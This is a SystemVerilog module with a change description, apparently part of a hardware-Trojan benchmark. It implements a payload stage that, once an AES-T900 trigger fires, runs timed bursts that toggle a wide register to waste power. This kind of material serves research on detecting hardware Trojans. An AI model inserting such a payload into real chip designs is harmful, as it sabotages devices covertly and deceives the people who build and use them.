tj_drain_payload: RTL

Trojan payload stage that consumes the single-bit `Tj_Trig` output of the AES-T900 trigger block. On the trigger's rising edge it arms, waits a programmable delay, then runs a bounded series of high-activity bursts: a wide register inverts every cycle to raise dynamic power. Between bursts it idles for a fixed gap. The block has no data path into the AES core; it only adds switching activity and status outputs. It is instantiated beside the trigger inside the Trojan wrapper.

---
 rtl/tj_drain_payload.sv | 130 +++++++++++++
 1 files changed

// File: rtl/tj_drain_payload.sv
// ---------------------------------------------------------------------------
// tj_drain_payload
//   Payload stage driven by the AES-T900 trigger. A rising edge on Tj_Trig
//   (seen only while idle) arms the block. After DELAY_CYCLES it runs up to
//   BURST_COUNT bursts. Each burst is BURST_CYCLES cycles long and inverts a
//   WIDTH-bit register on every cycle to burn dynamic power. Bursts are
//   separated by GAP_CYCLES quiet cycles. When the last burst ends the block
//   parks in DONE until reset. BURST_COUNT = 0 means it never stops.
//   It has no connection to the AES datapath.
//
// Ports
//   clk       : clock, rising edge
//   rst       : synchronous reset, active low
//   Tj_Trig   : trigger level from the trigger stage (edge-detected here)
//   drain_q   : toggle register (SEED at reset and again once DONE)
//   pl_active : high while arming, bursting or in a gap
//   pl_done   : sticky completion flag
//   burst_idx : bursts completed in this activation, saturating at 255
// ---------------------------------------------------------------------------
module tj_drain_payload #(
  parameter int unsigned       WIDTH        = 128,
  parameter logic [WIDTH-1:0]  SEED         = WIDTH'({64{2'b10}}),
  parameter int unsigned       DELAY_CYCLES = 16,
  parameter int unsigned       BURST_CYCLES = 1024,
  parameter int unsigned       GAP_CYCLES   = 256,
  parameter int unsigned       BURST_COUNT  = 4
) (
  input  logic             clk,
  input  logic             rst,
  input  logic             Tj_Trig,
  output logic [WIDTH-1:0] drain_q,
  output logic             pl_active,
  output logic             pl_done,
  output logic [7:0]       burst_idx
);

  typedef enum logic [2:0] {
    S_IDLE  = 3'd0,
    S_ARM   = 3'd1,
    S_BURST = 3'd2,
    S_GAP   = 3'd3,
    S_DONE  = 3'd4
  } state_t;

  // Terminal counts. A zero DELAY/GAP wraps its terminal count to all ones,
  // but that state is then never entered, so the value is never compared.
  localparam logic [31:0] DLY_LAST = 32'(DELAY_CYCLES - 1);
  localparam logic [31:0] BST_LAST = 32'(BURST_CYCLES - 1);
  localparam logic [31:0] GAP_LAST = 32'(GAP_CYCLES - 1);
  localparam logic [8:0]  CNT_LIM  = 9'(BURST_COUNT);

  state_t      state, state_n;
  logic [31:0] cnt, cnt_n;
  logic        trig_d;
  logic        rise;
  logic        burst_end;
  logic        last_burst;

  assign rise      = Tj_Trig & ~trig_d;
  assign burst_end = (state == S_BURST) && (cnt == BST_LAST);
  // burst_idx has not yet counted the burst that is ending, so compare +1.
  // Nine bits keep 255+1 from wrapping.
  assign last_burst = (BURST_COUNT != 0) &&
                      (({1'b0, burst_idx} + 9'd1) == CNT_LIM);

  // Next-state and cycle counter
  always_comb begin
    state_n = state;
    cnt_n   = cnt + 32'd1;
    case (state)
      S_IDLE: begin
        cnt_n = '0;
        if (rise) state_n = (DELAY_CYCLES > 0) ? S_ARM : S_BURST;
      end
      S_ARM: begin
        if (cnt == DLY_LAST) state_n = S_BURST;
      end
      S_BURST: begin
        if (burst_end) begin
          if (last_burst)          state_n = S_DONE;
          else if (GAP_CYCLES > 0) state_n = S_GAP;
          else                     cnt_n   = '0;  // back-to-back burst
        end
      end
      S_GAP: begin
        if (cnt == GAP_LAST) state_n = S_BURST;
      end
      S_DONE: begin
        cnt_n = '0;  // nothing is timed here; keep the counter still
      end
      default: begin
        state_n = S_IDLE;
        cnt_n   = '0;
      end
    endcase
    if (state_n != state) cnt_n = '0;
  end

  // State and registered outputs
  always_ff @(posedge clk) begin
    if (!rst) begin
      state     <= S_IDLE;
      cnt       <= '0;
      trig_d    <= 1'b0;
      drain_q   <= SEED;
      pl_active <= 1'b0;
      pl_done   <= 1'b0;
      burst_idx <= '0;
    end else begin
      state  <= state_n;
      cnt    <= cnt_n;
      trig_d <= Tj_Trig;

      // Active follows the next state. The BURST->DONE edge still reports
      // active, so active drops on the first edge spent in DONE. That is the
      // same edge where pl_done rises and drain_q returns to SEED.
      pl_active <= (state != S_DONE) && (state_n != S_IDLE);
      pl_done   <= pl_done | (state == S_DONE);

      case (state)
        S_BURST: drain_q <= ~drain_q;
        S_DONE:  drain_q <= SEED;
        default: drain_q <= drain_q;
      endcase

      if (burst_end && (burst_idx != 8'hFF)) burst_idx <= burst_idx + 8'd1;
    end
  end

endmodule
